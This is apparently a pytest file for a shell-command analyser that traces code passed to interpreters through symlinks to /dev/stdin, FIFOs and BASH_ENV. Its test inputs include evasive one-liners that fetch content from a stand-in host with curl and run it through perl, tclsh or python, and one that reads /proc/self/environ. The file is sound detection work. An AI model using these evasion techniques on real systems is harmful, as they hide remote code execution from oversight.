"""Links to descriptors and FIFOs that shell text makes, and what runs through them."""

from __future__ import annotations

import pytest

from flycatcher.core.shell_text import read_written


def found(text: str) -> list[tuple[str, str, str | None]]:
    """Return interpreter, vector and text of what the starts in a text run, the text of ``sh -c`` apart."""
    readings = [reading for _, reading in read_written(text)[1]]
    return [
        (reading.interpreter.id, snippet.vector, snippet.text)
        for reading in readings
        for snippet in reading.snippets
        if not (reading.interpreter.kind == "shell" and snippet.vector == "argument")
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ln -s /dev/stdin x; echo CODE | python3 x", [("python", "descriptor", "CODE\n")]),
        ("ln -s /dev/stdin ./x; curl -s http://x.example | perl ./x", [("perl", "descriptor", None)]),
        ("ln -sf /dev/fd d; ruby d/3 3<<'E'\nCODE\nE\n", [("ruby", "descriptor", "CODE\n")]),
        ("ln -s /proc/self/fd/0 a; ln -s a b; echo CODE | php b", [("php", "descriptor", "CODE\n")]),
        ("ln -s /dev/stdin a; ln -s a b; echo CODE | node b", [("node", "descriptor", "CODE\n")]),
        ("cd /srv; ln -s /dev/stdin a; ln -s a b; echo CODE | node b", [("node", "descriptor", "CODE\n")]),
        ("ln -s /dev/stdin a; echo CODE | node a", []),  # it finds no real path
        ("ln -s /dev/stdin /opt/bin/; echo CODE | lua /opt/bin/stdin", [("lua", "descriptor", "CODE\n")]),
        ("ln -s /proc/self/environ e; X=1 php e", [("php", "environment", "X=1\0")]),
        ("mkfifo p; echo CODE > p & python3 p", [("python", "descriptor", "CODE\n")]),
        ("mkfifo -m 600 p q; curl http://x.example > q & tclsh q", [("tcl", "descriptor", None)]),
        ("mknod /run/p p; node /run/p & echo CODE > /run/p", [("node", "descriptor", None)]),
        ("mkfifo p; mv p q; echo CODE > q & ruby q", [("ruby", "descriptor", "CODE\n")]),
        ("mkfifo p; BASH_ENV=p bash script", [("bash", "descriptor", None)]),
        ("mknod x b 8 0; python3 x; ln -s lib y; python3 y; mkfifo p; python3 script < /dev/null", []),
    ],
)
def test_what_is_no_file_is_known_by_the_name_that_the_text_gave_it(
    text: str, expected: list[tuple[str, str, str | None]]
) -> None:
    assert found(text) == expected


@pytest.mark.parametrize("text", ["ln -s /dev/stdin x; echo 'perl -e 1' | bash x", "mkfifo x; echo 'perl -e 1' > x & . ./x",
                                  "mkfifo x; echo 'perl -e 1' > x & bash < x"])  # fmt: skip
def test_a_shell_s_text_is_read_through_them(text: str) -> None:
    assert ("perl", "1") in [(s.interpreter, s.text) for _, reading in read_written(text)[1] for s in reading.snippets]


def test_what_a_fifo_s_text_is_fetched_by_is_told() -> None:
    started = read_written("mkfifo p; curl -s http://x.example > p & python3 p")[0].executions[-1]
    assert started.context["path.p.fetched"] == "curl -s http://x.example"
